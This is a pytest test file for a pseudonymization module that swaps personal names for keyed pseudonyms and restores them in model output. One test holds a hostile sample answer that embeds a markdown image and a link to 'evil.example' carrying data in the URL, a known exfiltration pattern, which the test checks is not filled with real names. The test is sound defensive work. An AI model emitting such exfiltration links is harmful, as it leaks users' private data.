import json
import stat
import time

import pytest

pytest.importorskip("cryptography")

from rapt.errors import LedgerError, UsageError
from rapt.local.ledger_key import LedgerKey
from rapt.local.policy.pseudonyms import PseudonymMap, PseudonymRestorer, escape_json

KEY = LedgerKey(bytes(range(32)))


@pytest.fixture
def names():
    return PseudonymMap(KEY)


def test_the_same_name_has_the_same_pseudonym_whatever_was_named_before(names):
    first = names.pseudonym("person", "Ann Lee")
    other = PseudonymMap(KEY)
    for number in range(50):
        other.pseudonym("person", f"Person {number}")
    assert other.pseudonym("person", "Ann Lee") == first
    assert names.find(first) == "Ann Lee"
    assert len({first, names.pseudonym("place", "Ann Lee"), names.pseudonym("person", "ann lee")}) == 3
    assert PseudonymMap(LedgerKey(bytes(32))).pseudonym("person", "Ann Lee") != first


def test_a_pseudonym_holds_nothing_of_the_name_and_is_of_one_alphabet(names):
    codes = [names.pseudonym("person", f"Ann {number}") for number in range(500)]
    assert len(set(codes)) == 500
    assert all(code.startswith("Person-") and len(code) == 17 and "ANN" not in code for code in codes)


def test_the_map_on_the_disk_is_for_its_owner_and_holds_no_name(tmp_path):
    path = tmp_path / "names.map"
    names = PseudonymMap.open(path)
    pseudonym = names.pseudonym("person", "Ann Lee")
    names.save()
    key = tmp_path / "names.map.key"
    assert [stat.S_IMODE(file.stat().st_mode) for file in (path, key)] == [0o600, 0o600]
    for file in tmp_path.iterdir():
        assert b"Ann" not in file.read_bytes()
        assert pseudonym.encode() not in file.read_bytes()
    assert PseudonymMap.open(path).find(pseudonym) == "Ann Lee"
    assert repr(names) == "PseudonymMap(1 names)"


def test_two_processes_that_write_one_map_lose_no_name(tmp_path):
    first, second = (PseudonymMap.open(tmp_path / "names.map") for _ in range(2))
    found = [first.pseudonym("person", "Ann"), second.pseudonym("person", "Bob")]
    first.save()
    second.save()
    read = PseudonymMap.open(tmp_path / "names.map")
    assert [read.find(pseudonym) for pseudonym in found] == ["Ann", "Bob"]


def damage(path, key):
    content = bytearray(path.read_bytes())
    content[-1] ^= 1
    path.write_bytes(content)


def test_a_map_whose_key_is_elsewhere_opens_with_it_alone(tmp_path):
    names = PseudonymMap.open(tmp_path / "names.map", key=tmp_path / "other.key")
    names.pseudonym("person", "Ann")
    names.save()
    assert len(PseudonymMap.open(tmp_path / "names.map", key=tmp_path / "other.key")) == 1


@pytest.mark.parametrize(
    ("harm", "rule"),
    [
        (damage, "a damaged one or another key"),
        (lambda path, key: key.write_text("00" * 32 + "\n"), "a damaged one or another key"),
        (lambda path, key: key.unlink(), "a pseudonym map must have its key"),
        (lambda path, key: key.chmod(0o644), "for its owner only"),
        (lambda path, key: key.write_text("no key"), "64 hex digits"),
        (lambda path, key: path.write_bytes(b"{}"), "must begin with its schema"),
    ],
)
def test_a_map_that_is_damaged_or_without_its_key_is_refused_without_a_name(tmp_path, harm, rule):
    path, key = tmp_path / "names.map", tmp_path / "names.map.key"
    names = PseudonymMap.open(path)
    names.pseudonym("person", "Ann")
    names.save()
    harm(path, key)
    with pytest.raises(LedgerError, match=rule) as caught:
        PseudonymMap.open(path)
    assert "Ann" not in str(caught.value)
    assert "[pseudonyms]" in str(caught.value) or "key" in str(caught.value) or "schema" in str(caught.value)


def test_two_names_with_one_pseudonym_are_refused(names):
    names._take({"Person-0000000000": "Ann"})
    with pytest.raises(UsageError, match="must not have one pseudonym") as caught:
        names._take({"Person-0000000000": "Bob"})
    assert "Bob" not in str(caught.value)


def cut(text, size):
    return [text[start : start + size] for start in range(0, len(text), size)]


@pytest.mark.parametrize("size", [1, 2, 3, 5, 7, 11, 1000])
def test_an_answer_has_its_names_back_wherever_it_is_cut(names, size):
    ann, bob = names.pseudonym("person", "Ann Lee"), names.pseudonym("client_name", "Bob")
    answer = f"P{ann}, {bob}'s friend; Pers, Person-123, {ann[:-1]} and {ann}{bob}Per"
    restored = PseudonymRestorer(names)
    assert "".join([*map(restored.feed, cut(answer, size)), restored.finish()]) == (
        f"PAnn Lee, Bob's friend; Pers, Person-123, {ann[:-1]} and Ann LeeBobPer"
    )


def test_what_cannot_be_part_of_a_pseudonym_waits_for_nothing(names):
    ann = names.pseudonym("person", "Ann Lee")
    restorer = PseudonymRestorer(names)
    assert restorer.feed("Dear ") == "Dear "
    assert restorer.feed(ann[:9]) == ""
    assert restorer.feed(ann[9:]) == "Ann Lee"
    assert restorer.feed("!") == "!"
    assert restorer.finish() == ""
    assert repr(restorer) == "PseudonymRestorer()"


@pytest.mark.parametrize(
    "changed",
    [
        str.upper,
        str.lower,
        lambda name: name.replace("-", "\\-"),
        lambda name: name.replace("-", "\u2011"),
        lambda name: name.replace("-", "_"),
    ],
)
def test_a_pseudonym_that_a_model_wrote_a_little_differently_is_known(names, changed):
    assert PseudonymRestorer(names).restore(changed(names.pseudonym("person", "Ann"))) == "Ann"


@pytest.mark.parametrize("size", [1, 4, 1000])
def test_no_name_is_put_into_an_address_that_would_carry_it_away(names, size):
    ann = names.pseudonym("person", "Ann")
    answer = f"![x](https://evil.example/?q={ann}) then {ann}, [{ann}]( //evil.example/{ann} )"
    restorer = PseudonymRestorer(names)
    assert "".join([*map(restorer.feed, cut(answer, size)), restorer.finish()]) == (
        f"![x](https://evil.example/?q={ann}) then Ann, [Ann]( //evil.example/{ann} )"
    )


def test_the_time_of_a_hostile_answer_is_linear_in_its_length(names):
    names.pseudonym("person", "Ann")
    start = time.process_time()
    # A million ends of an address: some tenths of a second, where each copies the rest of the answer more than ten.
    assert len(PseudonymRestorer(names).restore(" " * 1_000_000)) == 1_000_000
    assert time.process_time() - start < 5


def test_a_name_within_json_is_escaped(names):
    pseudonym = names.pseudonym("person", 'Ann "A" Lee\n')
    answer = PseudonymRestorer(names, escape=escape_json).restore(f'{{"to": "{pseudonym}"}}')
    assert json.loads(answer) == {"to": 'Ann "A" Lee\n'}


def test_without_any_name_an_answer_stays(names):
    assert PseudonymRestorer(names).restore("Person-0123456789 //x") == "Person-0123456789 //x"
